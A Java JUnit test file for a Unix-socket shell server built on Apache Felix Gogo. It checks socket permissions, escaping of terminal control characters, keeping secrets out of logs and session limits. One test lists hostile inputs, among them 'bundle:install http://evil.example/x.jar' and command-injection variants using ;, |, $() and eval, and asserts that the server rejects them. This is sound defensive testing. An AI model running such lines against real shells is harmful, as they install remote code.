package org.latchkey.shell;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import org.apache.felix.gogo.runtime.CommandProcessorImpl;
import org.apache.felix.service.command.CommandSession;
import org.junit.After;
import org.junit.Before;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;
import org.latchkey.api.Refusal;
import org.slf4j.LoggerFactory;

public class ShellServerTest {

    @Rule
    public final TemporaryFolder data = new TemporaryFolder();

    private final CommandProcessorImpl processor = new CommandProcessorImpl();
    private final List<String> evil = new ArrayList<>();
    private ShellServer server;
    private Path socket;

    /** Commands as any bundle may register them. */
    public static final class Commands {

        private final CountDownLatch entered = new CountDownLatch(1);
        private final CountDownLatch released = new CountDownLatch(1);

        public void echo(CommandSession session, String[] words) {
            session.getConsole().println(String.join(",", words));
        }

        public void large(CommandSession session, String[] words) {
            session.getConsole().print("ü".repeat(100_000));
        }

        public void ask(CommandSession session, String[] words) throws IOException {
            StringBuilder typed = new StringBuilder();
            for (int next = session.getKeyboard().read();
                    next != '\n';
                    next = session.getKeyboard().read()) {
                typed.append((char) next);
            }
            session.getConsole().println(typed.reverse());
        }

        public void where(CommandSession session, String[] words) {
            session.getConsole().println(session.currentDir().resolve("file"));
        }

        public void refuse(CommandSession session, String[] words) {
            throw new Refusal("no", "No, because of \u001b[31mthis\u202e.");
        }

        public void fault(CommandSession session, String[] words) {
            throw new IllegalStateException("inner secret");
        }

        public void error(CommandSession session, String[] words) {
            throw new StackOverflowError();
        }

        public void hang(CommandSession session, String[] words) throws InterruptedException {
            entered.countDown();
            released.await();
        }
    }

    private final Commands commands = new Commands();

    /** What must stay out of reach. */
    public final class Evil {
        public void install(String[] words) {
            evil.add("install " + String.join(" ", words));
        }
    }

    @Before
    public void start() throws IOException {
        for (String each : new String[] {"echo", "large", "ask", "where", "refuse", "fault", "error", "hang"}) {
            processor.addCommand("latchkey", commands, each);
        }
        processor.addCommand("bundle", new Evil(), "install");
        processor.addCommand("osgi", processor, "eval");
        server = new ShellServer(data.getRoot().toPath(), processor);
        socket = data.getRoot().toPath().resolve("shell.sock");
    }

    @After
    public void stop() throws IOException {
        commands.released.countDown();
        server.close();
    }

    @Test
    public void a13_theSocketIsItsOwnersAlone() throws IOException {
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(socket, LinkOption.NOFOLLOW_LINKS)))
                .isEqualTo("rw-------");
    }

    @Test
    public void commandsRunOneAfterAnother() throws IOException {
        try (Client client = new Client(socket)) {
            assertThat(client.run("echo one 'two words'")).isEqualTo(new Client.Answer(0, "one,two words\n", "", 0));
            assertThat(client.run("latchkey:echo")).isEqualTo(new Client.Answer(0, "\n", "", 0));
            assertThat(client.run("")).isEqualTo(new Client.Answer(0, "", "", 0));
            assertThat(client.run("echo häßlich 🔑").out()).isEqualTo("häßlich,🔑\n");
        }
    }

    @Test
    public void muchOutputComesWhole() throws IOException {
        try (Client client = new Client(socket)) {
            assertThat(client.run("large").out()).isEqualTo("ü".repeat(100_000));
        }
    }

    @Test
    public void aRefusalIsShownWithoutSteeringTheTerminal() throws IOException {
        try (Client client = new Client(socket)) {
            assertThat(client.run("refuse"))
                    .isEqualTo(new Client.Answer(1, "", "No, because of \\u001b[31mthis\\u202e.\n", 0));
        }
    }

    @Test
    public void aFaultIsLoggedAndNotShownAndTheShellGoesOn() throws IOException {
        try (Client client = new Client(socket)) {
            for (String each : new String[] {"fault", "error"}) {
                Client.Answer answer = client.run(each);
                assertThat(answer.code()).isEqualTo(1);
                assertThat(answer.err()).startsWith("The command failed. The log has the reason under request ");
                assertThat(answer.err()).doesNotContain("inner secret");
            }
            assertThat(client.run("echo on").code()).isZero();
        }
    }

    @Test
    public void a13_aSecretIsAskedForAndNeverLogged() throws IOException {
        ListAppender<ILoggingEvent> lines = new ListAppender<>();
        Logger log = (Logger) LoggerFactory.getLogger("ROOT");
        lines.start();
        log.addAppender(lines);
        try (Client client = new Client(socket)) {
            assertThat(client.run("ask --option hidden", "geheim")).isEqualTo(new Client.Answer(0, "mieheg\n", "", 1));
        } finally {
            log.detachAppender(lines);
        }
        assertThat(lines.list).isNotEmpty().allSatisfy(line -> assertThat(
                        line.getFormattedMessage() + line.getKeyValuePairs())
                .doesNotContain("geheim")
                .doesNotContain("hidden"));
    }

    @Test
    public void a13_nothingButTheScopeLatchkeyCanBeReached() throws IOException {
        try (Client client = new Client(socket)) {
            for (String line : new String[] {
                "bundle:install http://evil.example/x.jar",
                "osgi:eval bundle:install x",
                "echo (bundle:install x)",
                "echo x; bundle:install x",
                "echo x | bundle:install x",
                "echo $(bundle:install x)",
                "install x",
                "eval x",
                "$.context bundles"
            }) {
                Client.Answer answer = client.run(line);
                assertThat(answer.code()).as(line).isEqualTo(1);
                assertThat(answer.err()).as(line).isNotBlank();
            }
            assertThat(client.run("echo '$(bundle:install x)' \"(osgi:eval)\"").out())
                    .isEqualTo("$(bundle:install x),(osgi:eval)\n");
        }
        assertThat(evil).isEmpty();
    }

    @Test
    public void unknownCommandsAndMissingPartsAreToldApart() throws IOException {
        try (Client client = new Client(socket)) {
            assertThat(client.run("nonsense").err())
                    .isEqualTo("There is no command \"nonsense\"; \"help\" lists them.\n");
            assertThat(client.run("entity list").err())
                    .isEqualTo("\"entity\" is not available: a part of the server that it needs is not running.\n");
        }
    }

    @Test
    public void relativeFilesBeginWhereTheClientIs() throws IOException {
        try (Client client = new Client(socket)) {
            assertThat(client.run("cd '/some where'").code()).isZero();
            assertThat(client.run("where").out()).isEqualTo("/some where/file\n");
        }
    }

    @Test
    public void malformedLinesAreRefused() throws IOException {
        try (Client client = new Client(socket)) {
            client.send(new byte[] {'e', (byte) 0xff, '\n'});
            assertThat(client.answer()).isEqualTo(new Client.Answer(1, "", "The line is not UTF-8.\n", 0));
            assertThat(client.run("echo 'open").err()).isEqualTo("A quote is not closed.\n");
        }
    }

    @Test
    public void anEndlessLineEndsTheConversation() throws IOException {
        try (Client client = new Client(socket)) {
            client.send("x".repeat(LineReader.LONGEST + 1));
            assertThat(client.answer().err()).contains("65536");
            assertThat(client.isOver()).isTrue();
        }
    }

    @Test
    public void moreClientsThanShellsAreTurnedAwayAndPlacesComeBack() throws Exception {
        List<Client> clients = new ArrayList<>();
        for (int i = 0; i < ShellServer.SESSIONS; i++) {
            Client client = new Client(socket);
            assertThat(client.run("echo x").code()).isZero();
            clients.add(client);
        }
        try (Client late = new Client(socket)) {
            assertThat(late.answer()).isEqualTo(new Client.Answer(1, "", "All 8 shells are in use.\n", 0));
            assertThat(late.isOver()).isTrue();
        }
        for (Client client : clients) {
            client.close();
        }
        try (Client again = new Client(socket)) {
            assertThat(again.run("echo x").code()).isZero();
        }
    }

    @Test
    public void oneHangingCommandHoldsUpNobody() throws Exception {
        try (Client stuck = new Client(socket);
                Client other = new Client(socket)) {
            stuck.send("hang\n");
            commands.entered.await();
            assertThat(other.run("echo on").code()).isZero();
        }
    }

    @Test
    public void closingEndsConversationsAndRemovesTheSocket() throws IOException {
        try (Client client = new Client(socket)) {
            assertThat(client.run("echo x").code()).isZero();
            server.close();
            assertThat(client.isOver()).isTrue();
        }
        assertThat(socket).doesNotExist();
    }

    @Test
    public void linesSentAheadAreAnsweredInOrder() throws IOException {
        try (Client client = new Client(socket)) {
            client.send("echo 1\necho 2\nask\nsecret\necho 3\n".getBytes(StandardCharsets.UTF_8));
            assertThat(client.answer().out()).isEqualTo("1\n");
            assertThat(client.answer().out()).isEqualTo("2\n");
        }
    }
}
